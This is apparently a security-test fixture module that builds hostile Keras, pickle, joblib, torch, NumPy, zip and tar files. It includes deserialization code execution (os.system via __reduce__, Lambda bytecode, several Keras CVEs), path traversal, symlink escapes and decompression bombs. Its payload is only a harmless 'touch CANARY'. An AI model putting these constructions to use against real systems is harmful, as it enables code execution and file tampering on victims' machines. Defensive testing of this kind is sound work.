"""Hostile weight files and archives. Every ``write_…`` takes the path to write.

What they smuggle in is ``touch CANARY``, in the working directory of whoever runs it.
"""

import base64
import functools
import gzip
import io
import json
import marshal
import os
import pickle
import stat
import struct
import tarfile
import tempfile
import warnings
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import h5py
import joblib
import keras
import numpy as np
from keras.src.legacy.saving import legacy_h5_format

CANARY = "CANARY"
COMMAND = f"touch {CANARY}"
SECRET = "secret.txt"
"""A file of the host, beside the hostile one, that must not be read."""
CONFIG, WEIGHTS = "config.json", "model.weights.h5"
Config = dict[str, Any]


class Payload:
    """Runs ``COMMAND`` when it is unpickled."""

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return os.system, (COMMAND,)


def payload() -> Callable[[Any], Any]:
    """As a Python lambda, whose bytecode Keras stores; of a named function it stores the name alone."""
    return lambda x: (__import__("os").system("touch CANARY"), x)[1]


_CODE = base64.b64encode(marshal.dumps(payload().__code__)).decode()
LAMBDA = {"class_name": "__lambda__", "config": {
    "code": _CODE, "defaults": None, "closure": None, "value": [_CODE, None, None]}}
"""The payload in both forms that Keras knows: a layer's, and anything else's."""


# .keras files: a small model whose parts are replaced

@functools.cache
def model_parts() -> Mapping[str, bytes]:
    """The members of a small model's .keras file."""
    pixels = keras.Input((4,), name="pixels")
    model = keras.Model(pixels, keras.layers.Dense(3, name="dense")(pixels))
    with tempfile.TemporaryDirectory() as folder:
        model.save(Path(folder) / "model.keras")
        with zipfile.ZipFile(Path(folder) / "model.keras") as archive:
            return {name: archive.read(name) for name in archive.namelist()}


def write_zip(path: Path, parts: Mapping[str, bytes], deflated: bool = False) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED if deflated else zipfile.ZIP_STORED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)


def write_config(path: Path, change: Callable[[Config], None]) -> None:
    """A model whose config was changed by ``change``, which gets it parsed."""
    parts = model_parts()
    config = json.loads(parts[CONFIG])
    change(config)
    write_zip(path, {**parts, CONFIG: json.dumps(config).encode()})


def with_layer(layer: Mapping[str, Any]) -> Callable[[Path], None]:
    """A model with ``layer`` (module, class_name, config) in place of its Dense layer."""
    def change(config: Config) -> None:
        dense = config["config"]["layers"][1]
        dense.update({"registered_name": None, "build_config": None, **layer})
        dense["config"] = {"name": "dense", **layer["config"]} if isinstance(layer["config"], dict) else layer["config"]

    return lambda path: write_config(path, change)


def with_dense(**settings: Any) -> Callable[[Path], None]:
    """A model whose Dense layer has these settings."""
    return lambda path: write_config(path, lambda config: config["config"]["layers"][1]["config"].update(settings))


def function(module: str, name: str) -> Config:
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def with_members(members: Mapping[str, bytes], deflated: bool = False) -> Callable[[Path], None]:
    return lambda path: write_zip(path, {**model_parts(), **members}, deflated)


def write_lambda_model(path: Path) -> None:
    x = keras.Input((4,))
    keras.Model(x, keras.layers.Lambda(payload(), output_shape=(4,))(x)).save(path)


def write_unsafe_then_lambda(path: Path) -> None:
    """CVE-2025-9906: the first layer is a call that switches safe mode off, the second one is code."""
    def change(config: Config) -> None:
        layers = config["config"]["layers"]
        layers.insert(0, {**function("keras.config", "enable_unsafe_deserialization"), "name": "off",
                          "inbound_nodes": []})
        layers[2].update({"class_name": "Lambda", "config": {"name": "dense", "function": LAMBDA}})

    write_config(path, change)


def write_called_function(path: Path) -> None:
    """CVE-2025-1550: a function in place of a layer, its arguments those of the layer's call."""
    def change(config: Config) -> None:
        config["config"]["layers"].append({
            **function("os", "system"), "name": "call",
            "inbound_nodes": [{"args": [COMMAND], "kwargs": {}}]})

    write_config(path, change)


def write_path_in_name(path: Path) -> None:
    """CVE-2026-12479: a layer's name that leads out of the folder where its vocabulary is unpacked."""
    def change(config: Config) -> None:
        config["config"]["layers"][1].update({"class_name": "StringLookup", "config": {
            "name": f"../../../../../..{path.parent}/{CANARY}", "vocabulary": ["a"], "max_tokens": None}})

    write_config(path, change)
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("assets/layers/x/vocabulary.txt", "a\n")


def write_symlink_member(path: Path) -> None:
    write_zip(path, model_parts())
    with zipfile.ZipFile(path, "a") as archive:
        link = zipfile.ZipInfo("assets/out")
        link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "..")
        archive.writestr(f"assets/out/{CANARY}", "")


def write_two_configs(path: Path) -> None:
    """What one reader takes for the config is not what another one takes."""
    with warnings.catch_warnings(), zipfile.ZipFile(path, "w") as archive:
        warnings.simplefilter("ignore")  # zipfile warns of the name that comes twice
        for name, content in model_parts().items():
            archive.writestr(name, content)
        archive.writestr(CONFIG, json.dumps({"module": "os", "class_name": "system", "config": COMMAND}))


def write_lying_header(path: Path) -> None:
    """The zip's directory claims four gigabytes for the weights, of which there are some kilobytes."""
    write_zip(path, model_parts())
    content = bytearray(path.read_bytes())
    entry = content.rindex(b"PK\x01\x02", 0, content.rindex(WEIGHTS.encode()))
    content[entry + 24:entry + 28] = struct.pack("<I", 2**32 - 2)
    path.write_bytes(content)


def write_config_bomb(path: Path, megabytes: int = 600) -> None:
    """A config of spaces: a megabyte on disk, more than a gigabyte unpacked."""
    parts = dict(model_parts())
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        with archive.open(CONFIG, "w") as member:
            for _ in range(megabytes):
                member.write(b" " * 2**20)
            member.write(parts.pop(CONFIG))
        for name, content in parts.items():
            archive.writestr(name, content)


# Formats of others

def write_legacy_model(path: Path) -> None:
    """A whole model in Keras 2's format, with code in a Lambda layer."""
    x = keras.Input((4,))
    model = keras.Model(x, keras.layers.Lambda(payload(), output_shape=(4,))(x))
    with h5py.File(path, "w") as file:
        legacy_h5_format.save_model_to_hdf5(model, file)


def write_pickle(path: Path) -> None:
    path.write_bytes(pickle.dumps(Payload()))


def write_joblib(path: Path) -> None:
    joblib.dump(Payload(), path)


def write_torch(path: Path) -> None:
    """As torch.save writes it: a zip with a pickle in it."""
    write_zip(path, {"archive/data.pkl": pickle.dumps(Payload(), 2), "archive/version": b"3\n"})


def write_npz(path: Path) -> None:
    with path.open("wb") as file:
        np.savez(file, arr_0=np.array([Payload()], object))


def write_npy(path: Path) -> None:
    with path.open("wb") as file:
        np.save(file, np.array([Payload()], object))


def write_tar(path: Path) -> None:
    """A link out of the folder, a file through it, a file by ``..``; gzipped if its name says so."""
    with tarfile.open(path, "w:gz" if path.name.endswith("gz") else "w") as archive:
        link = tarfile.TarInfo("photos/out")
        link.type, link.linkname = tarfile.SYMTYPE, "../.."
        archive.addfile(link)
        for name in (f"photos/out/{CANARY}", f"../{CANARY}"):
            archive.addfile(tarfile.TarInfo(name), io.BytesIO())


def write_zip_of_pictures(path: Path) -> None:
    write_zip(path, {f"../{CANARY}": b"", "photos/a.png": b""})


def write_saved_model(path: Path) -> None:
    """A folder that TensorFlow would load: its graph is not looked at before it is refused."""
    (path / "variables").mkdir(parents=True)
    (path / "saved_model.pb").write_bytes(struct.pack("<Q", 1) + COMMAND.encode())


def write_keras_folder(path: Path) -> None:
    """The unpacked form, which keras.saving.load_model takes too."""
    path.mkdir()
    for name, content in model_parts().items():
        (path / name).write_bytes(content)


def write_fifo(path: Path) -> None:
    """Whoever opens it waits for ever."""
    os.mkfifo(path)


def write_gzip(path: Path) -> None:
    with gzip.open(path, "wb", 1) as file:
        for _ in range(100):
            file.write(bytes(2**20))
